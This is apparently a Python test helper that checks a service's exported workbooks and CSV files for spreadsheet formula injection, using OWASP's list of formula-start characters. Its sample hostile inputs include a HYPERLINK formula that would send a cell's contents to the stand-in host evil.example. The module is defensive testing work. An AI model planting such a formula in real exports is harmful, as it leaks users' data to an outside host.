"""Checks that a workbook or CSV file the service produced carries no live formula: every
text cell is a text cell, and none begins with what a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import openpyxl

#: what a cell's text must not begin with (OWASP's CSV injection list)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: titles as a careless or hostile user might type them, and the control characters that
#: reach the database when input validation is bypassed
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik her")'
DANGEROUS = (HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "  =1", "#N/A")
CONTROL = "Kortere\x01 sags\x1b[31mbehandling"
CONTROL_CLEAN = "Kortere sags[31mbehandling"
#: a number as the CSV files write it (decimal comma): a spreadsheet reads it as a number
CSV_NUMBER = re.compile(r"-?\d+(,\d+)?")


def workbook_cells(data: bytes) -> list[Any]:
    """Every cell with a value, in every sheet (hidden ones too)."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def assert_no_formula_in_workbook(data: bytes) -> list[Any]:
    """Every text a text cell (``s``) not starting with a formula character; no formula or
    error cell at all. Returns the cells."""
    cells = workbook_cells(data)
    for cell in cells:
        assert cell.data_type in ("s", "n", "d"), (cell.coordinate, cell.data_type, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert not cell.value.lstrip().startswith(FORMULA_STARTS), (
                cell.coordinate, cell.value)
    return cells


def csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_no_formula_in_csv(data: bytes) -> list[list[str]]:
    """No value but a number (``-4,5``) begins with a formula character, not even after
    blanks. Returns the rows."""
    rows = csv_rows(data)
    for row in rows:
        for value in row:
            if CSV_NUMBER.fullmatch(value):
                continue
            assert not value.startswith(FORMULA_STARTS), value
            assert not value.lstrip().startswith(FORMULA_STARTS), value
    return rows
